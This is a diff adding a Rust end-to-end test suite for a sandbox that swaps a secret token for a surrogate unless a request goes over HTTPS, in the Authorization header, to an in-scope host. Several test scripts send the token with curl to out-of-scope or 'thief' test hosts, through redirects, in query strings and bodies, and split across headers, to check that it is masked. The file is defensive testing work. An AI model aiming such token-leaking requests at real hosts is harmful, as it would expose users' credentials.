@@ -1,0 +1,179 @@
+//! Where the real value goes, and where it never does.
+
+use e2e_tests::bed::{Bed, Ran};
+use e2e_tests::secret::{Secrets, injection, unique};
+use e2e_tests::world::World;
+use sandbox::Injection;
+
+const POLICY: &str = "domains: ['*.scope.test']";
+
+/// A secret in `TOKEN`, what stands for it, and what became of a script that used it.
+struct Used {
+    real: String,
+    surrogate: String,
+    ran: Ran,
+}
+
+async fn with(injection: Injection, script: &str) -> Used {
+    let bed = Bed::new().await;
+    let real = unique("ghp_", 36);
+    let secrets = Secrets::default().masked("TOKEN", &real, injection).prepare();
+    let surrogate = secrets.env_vars().get("TOKEN").expect("a surrogate").clone();
+    assert_ne!(real, surrogate);
+    let ran = bed.run_with(&secrets, POLICY, script).await;
+    bed.close().await;
+    Used { real, surrogate, ran }
+}
+
+impl Used {
+    /// What `host` received holds the surrogate, and the real value nowhere.
+    #[track_caller]
+    fn assert_surrogate_at(&self, host: &str) {
+        let seen = self.seen(host);
+        assert!(seen.contains(&self.surrogate), "{seen}");
+        assert!(
+            !seen.contains(&self.real),
+            "the real value reached {host}: {seen}"
+        );
+    }
+
+    /// What `host` received holds the real value.
+    #[track_caller]
+    fn assert_real_at(&self, host: &str) {
+        let seen = self.seen(host);
+        assert!(
+            seen.contains(&self.real),
+            "{seen}\n{}\n{}",
+            self.ran.stderr,
+            self.ran.log
+        );
+    }
+
+    #[track_caller]
+    fn seen(&self, host: &str) -> String {
+        let seen = World::shared().seen(host);
+        assert!(!seen.is_empty(), "nothing arrived at {host}: {}", self.ran.log);
+        format!("{seen:?}")
+    }
+}
+
+const BEARER: &str = "-H \"Authorization: Bearer $TOKEN\"";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn to_a_host_out_of_scope_the_surrogate_goes() {
+    let script =
+        format!("curl -sS {BEARER} https://in.scope.test/; curl -sS {BEARER} https://out.scope.test/");
+    let used = with(injection(&["in.scope.test"], &["authorization"]), &script).await;
+    used.assert_surrogate_at("out.scope.test");
+    used.assert_real_at("in.scope.test");
+    assert_eq!(
+        used.ran.log_lines("-> 200 [masked: 1]").len(),
+        1,
+        "{}",
+        used.ran.log
+    );
+    let script = format!("curl -sS {BEARER} https://control-out.scope.test/");
+    let wider = with(injection(&["*.scope.test"], &["authorization"]), &script).await;
+    wider.assert_real_at("control-out.scope.test");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn over_plain_http_the_surrogate_goes() {
+    let script = format!("curl -sS {BEARER} http://plain.scope.test/");
+    let used = with(injection(&["plain.scope.test"], &["authorization"]), &script).await;
+    let seen = used.seen("plain.scope.test");
+    assert!(!seen.contains(&used.real), "{seen}");
+    let permitted = Injection {
+        allow_plaintext: true,
+        ..injection(&["control-plain.scope.test"], &["authorization"])
+    };
+    let script = format!("curl -sS {BEARER} http://control-plain.scope.test/");
+    with(permitted, &script)
+        .await
+        .assert_real_at("control-plain.scope.test");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn in_path_query_body_and_other_headers_it_stays_what_it_is() {
+    let script = format!(
+        "curl -sS https://places.scope.test/$TOKEN; curl -sS \"https://places.scope.test/?token=$TOKEN\"
+curl -sS -H \"X-Other: $TOKEN\" https://places.scope.test/
+curl -sS -d \"token=$TOKEN\" https://places.scope.test/echo
+curl -sS {BEARER} https://control-places.scope.test/"
+    );
+    let hosts = ["places.scope.test", "control-places.scope.test"];
+    let used = with(injection(&hosts, &["authorization"]), &script).await;
+    used.assert_surrogate_at("places.scope.test");
+    assert_eq!(used.seen("places.scope.test").matches(&used.surrogate).count(), 3);
+    let body = format!("token={}", used.surrogate);
+    assert!(
+        used.ran.stdout.contains(&body),
+        "what came back of the body: {}",
+        used.ran.stdout
+    );
+    used.assert_real_at("control-places.scope.test");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn split_over_two_header_lines_it_is_no_surrogate() {
+    let host = "split.scope.test";
+    let script = format!(
+        "curl -sS -H \"Authorization: Bearer ${{TOKEN:0:20}}\" -H \"Authorization: ${{TOKEN:20}}\" https://{host}/; curl -sS {BEARER} https://control-{host}/"
+    );
+    let scopes = [host, "control-split.scope.test"];
+    let used = with(injection(&scopes, &["authorization"]), &script).await;
+    let seen = used.seen(host);
+    assert!(
+        !seen.contains(&used.real) && !seen.contains(&used.real[20..]),
+        "{seen}"
+    );
+    used.assert_real_at("control-split.scope.test");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_redirect_out_of_scope_takes_the_surrogate_along() {
+    // curl repeats the header at the new host only when it is told to trust it.
+    let script = |from: &str, to: &str| {
+        format!(
+            "curl -sS -L --location-trusted {BEARER} https://{from}.scope.test/redirect/{to}.scope.test/landing"
+        )
+    };
+    let used = with(
+        injection(&["redirects.scope.test"], &["authorization"]),
+        &script("redirects", "elsewhere"),
+    )
+    .await;
+    used.assert_real_at("redirects.scope.test");
+    used.assert_surrogate_at("elsewhere.scope.test");
+    let wider = with(
+        injection(&["*.scope.test"], &["authorization"]),
+        &script("control-redirects", "control-elsewhere"),
+    )
+    .await;
+    wider.assert_real_at("control-elsewhere.scope.test");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_redirect_that_quotes_the_real_value_brings_the_surrogate_to_the_next_host() {
+    let script = |from: &str, to: &str| {
+        format!("curl -sS -L {BEARER} https://{from}.scope.test/mirror/redirect/{to}.scope.test/landing")
+    };
+    let used = with(
+        injection(&["quotes.scope.test"], &["authorization"]),
+        &script("quotes", "thief"),
+    )
+    .await;
+    used.assert_real_at("quotes.scope.test");
+    used.assert_surrogate_at("thief.scope.test");
+    assert!(
+        !used.ran.log_lines("[scrubbed: 1]").is_empty(),
+        "{}",
+        used.ran.log
+    );
+    let open = Injection {
+        allow_echo: true,
+        ..injection(&["control-quotes.scope.test"], &["authorization"])
+    };
+    let lenient = with(open, &script("control-quotes", "control-thief")).await;
+    lenient.assert_real_at("control-thief.scope.test");
+}
